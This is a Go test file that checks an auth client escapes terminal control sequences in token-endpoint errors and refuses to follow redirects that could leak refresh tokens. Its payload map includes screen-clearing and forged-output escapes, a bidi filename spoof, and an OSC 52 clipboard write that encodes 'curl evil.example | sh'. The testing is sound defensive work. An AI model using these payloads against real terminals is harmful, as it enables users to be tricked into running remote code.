package auth

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

// Payloads a hostile server or page sends to drive the terminal that
// prints its text: clear the screen, write the clipboard (OSC 52), and
// forge a line of our own output.
var hostile = map[string]string{
	"clear screen": "\x1b[2J\x1b[H",
	"osc 52":       "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"forged line":  "oops\r\n✓ Logged in to claude as admin@example.com",
	"c1 csi":       "\u009b2J",
	"bidi":         "\u202egnp.exe",
}

// assertInert fails when s still holds anything a terminal would act on.
func assertInert(t *testing.T, where, s string) {
	t.Helper()
	if i := strings.IndexFunc(s, func(r rune) bool {
		return r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e
	}); i >= 0 {
		t.Errorf("%s: %q reaches the terminal with a control character at %d", where, s, i)
	}
}

func TestTokenEndpointErrorCodesAreEscaped(t *testing.T) {
	for name, payload := range hostile {
		t.Run(name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusBadRequest)
				body, _ := json.Marshal(map[string]string{"error": "invalid_grant" + payload, "error_description": "gone" + payload})
				w.Write(body)
			}))
			defer srv.Close()
			cfg := &Config{Provider: "demo", ClientID: "c", TokenURL: srv.URL, Clock: newFixture(t).clock,
				HTTPClient: &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}}
			for _, hook := range []bool{false, true} {
				cfg.Hooks.Refresh = nil
				if hook {
					cfg.Hooks.Refresh = jsonRefreshHook
				}
				_, err := cfg.Refresh(context.Background(), Credentials{Provider: "demo", RefreshToken: "rt-123456", AccessToken: "at-123456"})
				ae := wantKind(t, err, ErrLoginRequired)
				assertInert(t, "error", err.Error())
				assertInert(t, "code", ae.Code)
				if !strings.Contains(err.Error(), `\x1b`) && strings.Contains(payload, "\x1b") {
					t.Errorf("hook=%v: %q does not show the escape it removed", hook, err)
				}
			}
		})
	}
}

func TestTokenEndpointRedirectIsNotFollowed(t *testing.T) {
	var hits int
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits++
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"access_token":"stolen-session","token_type":"Bearer","expires_in":3600}`))
	}))
	defer target.Close()
	for _, status := range []int{http.StatusTemporaryRedirect, http.StatusPermanentRedirect, http.StatusFound} {
		t.Run(http.StatusText(status), func(t *testing.T) {
			hits = 0
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, target.URL+"/collect?x=1", status)
			}))
			defer srv.Close()
			cfg := &Config{Provider: "demo", ClientID: "c", TokenURL: srv.URL, Clock: newFixture(t).clock,
				HTTPClient: &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}}
			for _, hook := range []bool{false, true} {
				cfg.Hooks.Refresh = nil
				if hook {
					cfg.Hooks.Refresh = jsonRefreshHook
				}
				_, err := cfg.Refresh(context.Background(), Credentials{Provider: "demo", RefreshToken: "rt-secret-123456"})
				wantKind(t, err, ErrMisconfigured)
				u, _ := url.Parse(target.URL)
				for _, want := range []string{u.Host + "/collect", "providers.demo.token_url", "not followed"} {
					if !strings.Contains(err.Error(), want) {
						t.Errorf("hook=%v: %q does not mention %q", hook, err, want)
					}
				}
				assertClean(t, err, "rt-secret-123456", "x=1")
			}
			if hits != 0 {
				t.Errorf("the redirect target received %d token requests", hits)
			}
		})
	}
}
